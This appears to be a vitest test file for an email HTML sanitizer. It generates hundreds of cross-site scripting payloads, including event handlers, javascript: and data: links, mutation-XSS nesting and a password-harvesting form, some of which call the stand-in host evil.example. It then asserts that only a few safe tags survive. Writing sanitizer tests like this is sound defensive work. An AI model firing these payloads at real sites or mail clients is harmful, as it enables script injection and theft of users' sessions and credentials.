import { describe, expect, test } from 'vitest'
import { cleanMailHtml } from './safe-html.ts'

const acts = ['alert(1)', 'fetch(`//evil.example`)', 'location=`//evil.example`']
const frames = [
  '<script>ACT</script>',
  '<ScRiPt src=//evil.example/x></sCrIpT>',
  '<img src=x onerror=ACT>',
  '<svg onload=ACT>',
  '<svg><animate onbegin=ACT attributeName=x>',
  '<body onload=ACT>',
  '<iframe srcdoc="<script>ACT</script>">',
  '<a href="javascript:ACT">x</a>',
  '<a href="java\tscript:ACT">x</a>',
  '<a href=" &#106;avascript:ACT">x</a>',
  '<a href="data:text/html,<script>ACT</script>">x</a>',
  '<a href="//evil.example" onclick=ACT>x</a>',
  '<a href="https://good.example" onmouseover="ACT">x</a>',
  '<a href=\'https://good.example"onmouseover="ACT\'>x</a>',
  '<p style="background:url(//evil.example/x)" onclick="ACT">x</p>',
  '<p/onclick=ACT>x',
  '<form action="//evil.example"><input name=password><button>x</button></form>',
  '<input autofocus onfocus=ACT>',
  '<details open ontoggle=ACT>',
  '<video><source onerror=ACT>',
  '<object data="javascript:ACT">',
  '<embed src="javascript:ACT">',
  '<link rel=stylesheet href=//evil.example/x>',
  '<style>@import "//evil.example/x"</style>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '"><script>ACT</script>',
  "'><script>ACT</script>",
  '--><script>ACT</script>',
  ']]><script>ACT</script>',
  '<!--><script>ACT</script>-->',
  '<!-- --!><script>ACT</script> -->',
  '<![CDATA[<script>ACT</script>]]>',
  '<?xml <script>ACT</script>?>',
  '</title><script>ACT</script>',
  '<<script>ACT//<</script>',
  '<scr<script>ipt>ACT</script>',
  '<noscript><p title="</noscript><img src=x onerror=ACT>">',
  '<mxss><style><img title="</style><img src=x onerror=ACT>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=ACT>">',
  '<template><script>ACT</script></template>',
  '&lt;script&gt;ACT&lt;/script&gt;',
  '<a href="https://good.example"><img src=x onerror=ACT></a>',
  '<p title="<script>ACT</script>">x</p>',
  '<a href="https://x.example/?a=\'><script>ACT</script>">x</a>',
  '<xmp><script>ACT</script></xmp>',
  '<textarea><script>ACT</script></textarea>',
  '<select><script>ACT</script></select>',
  '<p',
  '<a href="https://x.example/',
]
const payloads = frames.flatMap(frame =>
  acts.flatMap(act => {
    const one = frame.replaceAll('ACT', act)
    return [one, `<p>Before</p>${one}<p>After</p>`]
  }),
)

const allowed = /^<(\/?(p|h[1-3]|ul|ol|li|blockquote|strong|b|em|i|u|s|a)|br|hr)>$/
const linked = /^<a href="(https?:\/\/|mailto:)[^"<>]*">$/

test('F16 what is kept of a mail holds nothing but a few marks and the addresses of links', () => {
  expect(payloads.length).toBeGreaterThanOrEqual(300)
  for (const payload of payloads) {
    const { html } = cleanMailHtml(payload)
    const marks = html.match(/<[^>]*>?/g) ?? []
    expect(
      marks.filter(mark => !allowed.test(mark) && !linked.test(mark)),
      payload,
    ).toEqual([])
  }
})

test('F16 cleaned once more it stays as it is', () => {
  for (const payload of payloads) {
    const once = cleanMailHtml(payload).html
    expect(cleanMailHtml(once).html, payload).toBe(once)
  }
})

describe('a mail', () => {
  test('keeps its headings, lists, links and words, closed where they were left open', () => {
    const { html, text } = cleanMailHtml(
      '<h2>Hours</h2><p>We answer <strong>until eight</p><ul><li>Mon<li>Tue</ul>' +
        '<p><a class="x" href="https://konsil.example/a?b=1&amp;c=2">Look</a><br>5 &lt; 6 &amp; ü</p>',
    )
    expect(html).toBe(
      '<h2>Hours</h2><p>We answer <strong>until eight</strong></p><ul><li>Mon<li>Tue</li></li></ul>' +
        '<p><a href="https://konsil.example/a?b=1&amp;c=2">Look</a><br>5 &lt; 6 &amp; ü</p>',
    )
    expect(text).toContain('Hours\n\nWe answer until eight\n\n- Mon')
    expect(text).toContain('Look (https://konsil.example/a?b=1&c=2)\n5 < 6 & ü')
  })

  test('has words in its plain text alone, and none of a script', () => {
    expect(cleanMailHtml('<p>Hello</p><script>alert(1)</script><style>p{}</style>').text).toBe(
      'Hello',
    )
    expect(cleanMailHtml('<p> <br></p>').text).toBe('')
  })

  test.each(['<a "', '<', '<p>', '<!--', '&amp', '<script>', '"<a \''])(
    'of 50,000 signs of %s is read in no time',
    piece => {
      const begin = performance.now()
      cleanMailHtml(piece.repeat(Math.ceil(50_000 / piece.length)))
      expect(performance.now() - begin).toBeLessThan(500)
    },
  )
})
